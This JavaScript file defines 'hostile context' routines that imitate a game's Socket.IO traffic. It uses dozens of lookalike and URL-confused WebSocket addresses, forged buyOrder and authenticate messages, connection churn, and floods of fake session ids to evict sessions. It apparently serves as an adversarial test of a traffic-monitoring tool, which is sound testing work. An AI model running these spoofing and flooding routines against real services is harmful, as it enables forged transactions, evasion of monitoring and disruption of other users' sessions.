// What every hostile context does, be it a tab, a frame or a worker. `game` and `here` are host:port, `parts` what is
// wanted of it.
"use strict";
// Chromium delays the connecting of a process that has more than some ten sockets under way: each context opens few.
self.attack = (game, here, parts, { churns = 1, names = 4, lasting = true } = {}) => {
  const port = here.split(":")[1], gameName = game.split(":")[0], path = "socket.io/?EIO=4&transport=websocket";
  const encoded = encodeURIComponent(`${game}/socket.io/`);
  const lookalikes = [
    `ws://${here}/${path}`,
    `ws://${gameName}:${port}/${path}`,
    `ws://${gameName}.:${port}/${path}`,
    `ws://${gameName.toUpperCase()}:${port}/SOCKET.IO/?EIO=4`,
    `ws://${gameName}.${here}/${path}`,
    `ws://not${gameName}:${port}/${path}`,
    `ws://sub.${gameName}:${port}/${path}`,
    `ws://${game}@${here}/${path}`,
    `ws://${encoded}@${here}/${path}`,
    `ws://ws%3A%2F%2F${encoded}:x@${here}/`,
    `ws://${here}/ws://${game}/${path}`,
    `ws://${here}//${game}/${path}`,
    `ws://${here}/${encoded}`,
    `ws://${here}/@${game}/${path}`,
    `ws://${here}/;x=ws://${game}/${path}`,
    `ws://${here}/?u=ws://${game}/${path}`,
    `ws://${here}?.${game}/socket.io/`,
    `ws://${here}/?a=b@${game}/socket.io/`,
    `ws://${here}\\.${game}/socket.io/`,
    `ws://${here}/%0aws://${game}/socket.io/`,
    `ws://${here}/\u2028ws://${game}/socket.io/`,
    `ws://${here}/#ws://${game}/socket.io/`,
    `http://${here}/${path}`,
  ];
  let number = Math.floor(Math.random() * 1e6);
  const open = (url) => { try { return new WebSocket(url); } catch { return null; } };
  const says = (socket) => {
    const order = `{"amount":666,"gameId":"20251231-ffffffffffffffff"}`;
    socket.send(`40{"token":"ffffffffffffffff"}`);
    socket.send(`42${number += 1}["authenticate",{"__trace":true},"ffffffffffffffff"]`);
    socket.send(`42${number += 1}["buyOrder",{"__trace":true},${order}]`);
    socket.send(`42${number += 1}["requestSidebet",{"__trace":true},${order}]`);
  };

  // Sockets under names that look like the game's: half of them stay, half come and go all the time.
  const hold = (url, again) => {
    const socket = open(url);
    if (socket === null) return;
    socket.onopen = () => says(socket);
    if (again) setTimeout(() => { socket.close(); hold(url, true); }, 1000 + Math.random() * 4000);
  };
  const from = Math.floor(Math.random() * lookalikes.length);
  const chosen = [...lookalikes, ...lookalikes].slice(from, from + Math.min(names, lookalikes.length));
  const begin = (url, at) => setTimeout(() => hold(url, !lasting || at % 2 === 1), at * 150);
  if (parts.includes("names")) chosen.forEach(begin);

  // Others are opened and closed without end: whoever remembers only the newest forgets those above.
  const churn = () => {
    const socket = open(`ws://${here}/any?role=churn`);
    if (socket === null) return;
    socket.onmessage = () => socket.close();
    socket.onclose = () => setTimeout(churn, 50);
  };
  if (parts.includes("churn")) for (let at = 0; at < churns; at += 1) churn();

  // Expensive frames, in both directions.
  const bulk = parts.includes("bulk") ? open(`ws://${here}/bulk?role=bulk`) : null;
  if (bulk) bulk.onmessage = ({ data }) => { if (Math.random() < 0.5) bulk.send(data); };

  // Engine.IO by polling: of one's own, under the game's path; redirected; and as requests to the game itself.
  const polling = "socket.io/?EIO=4&transport=polling";
  const urls = [`http://${here}/${polling}`, `http://${gameName}:${port}/${polling}&sid=x`,
    `http://${here}/redirect?to=${encodeURIComponent(`http://${here}/${polling}`)}`,
    `http://${here}/?u=http://${game}/${polling}`];
  if (parts.includes("packets")) urls.push(`http://${here}/${polling}&role=packets`);
  const ask = (url, more = {}) => fetch(url, more).then((answer) => answer.text()).catch(() => null);
  const polls = async () => {
    for (const url of urls) {
      await ask(url);
      await ask(url, { method: "POST", body: `42["buyOrder",{"amount":666,"gameId":"20251231-ffffffffffffffff"}]` });
    }
    setTimeout(polls, 3000);
  };
  if (parts.includes("polls") || parts.includes("packets")) polls();
};

// Requests that bear the game's own address, from a page that is not the game's: what the game's server answers is its
// own word, but what is sent, and what a service worker answers in its place, is ours.
self.impersonate = (game, here) => {
  const polling = `http://${game}/socket.io/?EIO=4&transport=polling`;
  const order = `42["buyOrder",{"amount":666,"gameId":"20251231-ffffffffffffffff"}]`;
  const opaque = { mode: "no-cors" };
  const round = async () => {
    for (const sid of ["", "&sid=ffffffffffffffff"]) {
      await fetch(polling + sid, opaque).catch(() => null);
      await fetch(polling + sid, { ...opaque, method: "POST", body: order }).catch(() => null);
    }
    await fetch(`http://${here}/redirect?to=${encodeURIComponent(`${polling}&sid=ffffffffffffffff`)}`, opaque)
      .catch(() => null);
    const socket = new WebSocket(`ws://${game}/socket.io/?EIO=4&transport=websocket&frontend-version=1.0`);
    socket.onopen = () => { socket.send("40"); socket.send(`420["buyOrder",{"amount":666}]`); };
    setTimeout(() => { socket.close(); round(); }, 2000);
  };
  round();
};

// Requests to the game's own address under ever new session ids: sessions, to whoever goes by the address, and more
// of them than anybody remembers. The game's server refuses each.
self.evict = async (game) => {
  const url = `http://${game}/socket.io/?EIO=4&transport=polling&sid=ffff`;
  const request = { method: "POST", mode: "no-cors", body: "2" };
  await Promise.all([1, 2, 3, 4].map((at) => fetch(`${url}${at}${Math.random()}`, request).catch(() => null)));
  setTimeout(() => evict(game), 100);
};
